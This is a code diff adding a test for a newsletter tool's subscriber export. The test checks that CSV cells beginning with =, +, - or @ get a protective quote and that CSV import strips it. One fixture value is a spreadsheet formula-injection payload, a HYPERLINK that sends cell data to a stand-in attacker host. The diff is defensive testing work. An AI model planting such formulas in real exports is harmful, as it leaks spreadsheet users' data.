@@ -185,3 +185,54 @@ def test_json_on_one_line_and_json_that_is_not_utf8(cli_run, tmp_path: Path) -> 
     assert r.output == (
         "Error: latin1.json:3: invalid UTF-8 (byte 0xfc); JSON files must be UTF-8\n"
     )
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(cli_run, tmp_path: Path) -> None:
+    """Names from a signup form reach Excel: formulas get a ' (OWASP), and import removes it."""
+    from newsletter.subscribers import add_subscriber
+    from newsletter.tabular import write_csv
+
+    cli_run("lists", "create", "news")
+    people = {
+        "=cmd@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "-minus@example.org": "@SUM(1+1)",
+        "+plus@example.org": "+49 30 1234567",
+        "quote@example.org": "'=already quoted",
+        "plain@example.org": "'apostrophe first",
+    }
+    db = Database(f"sqlite:///{tmp_path / 'newsletter.sqlite'}")
+    with db.session() as s:
+        for email, name in people.items():
+            add_subscriber(s, email, ["news"], name=name)
+        fast, typed = io.StringIO(), io.StringIO()
+        export(s, fast)
+        write_csv(export_rows(s), EXPORT_COLUMNS, typed)
+    db.dispose()
+    assert fast.getvalue() == typed.getvalue()
+    first = cli_run("subscribers", "export").output
+    cells = [(r["email"], r["name"]) for r in csv.DictReader(io.StringIO(first))]
+    assert cells == [
+        ("'=cmd@example.org", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+        ("'-minus@example.org", "'@SUM(1+1)"),
+        ("'+plus@example.org", "'+49 30 1234567"),
+        ("quote@example.org", "''=already quoted"),
+        ("plain@example.org", "'apostrophe first"),
+    ]
+    listing = cli_run("subscribers", "list", "--format", "csv").output
+    assert [r["name"] for r in csv.DictReader(io.StringIO(listing))] == [c[1] for c in cells]
+    json_names = {
+        r["email"]: r["name"]
+        for r in json.loads(cli_run("subscribers", "export", "--format", "json").output)
+    }
+    assert json_names == people  # JSON is for programs: values exactly as stored
+
+    (tmp_path / "backup.csv").write_text(first, encoding="utf-8")
+    url = f"sqlite:///{tmp_path / 'restored.sqlite'}"
+    cli_run("--database", url, "lists", "create", "news")
+    r = cli_run("--database", url, "subscribers", "import", "backup.csv")
+    assert r.exit_code == 0, r.output
+    assert cli_run("--database", url, "subscribers", "export").output == first
+    restored = json.loads(
+        cli_run("--database", url, "subscribers", "export", "--format", "json").output
+    )
+    assert {r["email"]: r["name"] for r in restored} == people
